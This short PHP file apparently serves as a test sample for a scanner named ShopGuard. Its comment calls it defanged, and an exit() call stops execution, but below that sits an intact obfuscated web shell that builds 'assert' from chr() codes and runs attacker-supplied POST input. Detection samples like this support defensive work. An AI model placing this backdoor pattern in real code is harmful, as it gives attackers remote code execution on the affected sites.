<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
$a = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);
$a($_POST['sg']);
